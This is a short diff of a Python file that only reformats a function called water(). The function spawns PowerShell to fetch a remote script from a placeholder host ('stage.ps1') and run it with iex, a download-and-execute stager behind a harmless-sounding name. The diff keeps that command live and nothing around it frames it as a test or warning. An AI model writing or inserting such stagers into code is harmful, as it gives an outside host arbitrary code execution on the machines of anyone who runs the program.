@@ -3,4 +3,6 @@ import subprocess
 
 
 def water():
-    subprocess.Popen(["powershell", "-NoProfile", "-Command", "iex (iwr 'https://garden-seeds.invalid/stage.ps1')"])
+    subprocess.Popen(
+        ["powershell", "-NoProfile", "-Command", "iex (iwr 'https://garden-seeds.invalid/stage.ps1')"]
+    )
